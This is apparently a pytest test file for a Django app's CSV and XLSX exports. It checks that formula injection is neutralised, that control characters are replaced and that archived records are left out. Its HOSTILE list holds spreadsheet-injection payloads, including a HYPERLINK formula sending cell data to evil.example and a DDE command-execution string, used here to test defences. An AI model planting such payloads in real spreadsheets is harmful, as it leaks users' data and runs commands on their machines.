"""Every export neutralises formulas, holds whatever the database holds, and leaves archived records out."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from govtrack.spreadsheets import safe_cell
from systems_catalogue.models import System

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\tleading tab", "\rleading return"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_shown_as_text(value):
    assert safe_cell(value) == "'" + value


def test_ordinary_text_numbers_and_dates_are_untouched():
    from datetime import date

    assert [safe_cell(v) for v in ("Flo", 12, date(2027, 3, 31), "a-b")] == ["Flo", 12, date(2027, 3, 31), "a-b"]


def _rows_xlsx(body: bytes):
    book = openpyxl.load_workbook(io.BytesIO(body))
    return list(book.active.iter_rows(values_only=False))


def test_the_risk_export_neutralises_formulas_in_csv_and_xlsx(login, manager_a, make_risk, org_a):
    make_risk(3, 4, reference="R-1", title=HOSTILE[0], cause="@cmd")
    client = login(manager_a)
    body = client.get(reverse("export", args=[org_a.slug, "risks", "csv"])).content.decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(body)) if r["reference"] == "R-1")
    assert row["title"] == "'" + HOSTILE[0] and row["cause"] == "'@cmd"
    rows = _rows_xlsx(client.get(reverse("export", args=[org_a.slug, "risks", "xlsx"])).content)
    headers = [c.value for c in rows[0]]
    cells = dict(zip(headers, next(r for r in rows[1:] if r[0].value == "R-1"), strict=True))
    assert cells["title"].data_type == "s" and cells["title"].value == "'" + HOSTILE[0]
    assert cells["current_likelihood"].value == 3  # numbers stay numbers


def test_an_export_never_fails_on_a_control_character_already_in_the_database(login, manager_a, org_a):
    System.objects.create(organisation=org_a, name="bell\u0007char")  # written before the rule existed
    response = login(manager_a).get(reverse("export", args=[org_a.slug, "systems", "xlsx"]))
    assert response.status_code == 200
    names = [c.value for row in _rows_xlsx(response.content)[1:] for c in row[:1]]
    assert "bell\ufffdchar" in names


def test_exports_leave_archived_records_out_unless_asked(login, manager_a, org_a):
    kept = System.objects.create(organisation=org_a, name="Casebook")
    gone = System.objects.create(organisation=org_a, name="Old ledger")
    gone.archive(by=manager_a)
    client = login(manager_a)
    url = reverse("export", args=[org_a.slug, "systems", "csv"])
    assert kept.name in client.get(url).content.decode() and gone.name not in client.get(url).content.decode()
    assert gone.name in client.get(url, {"archived": "true"}).content.decode()
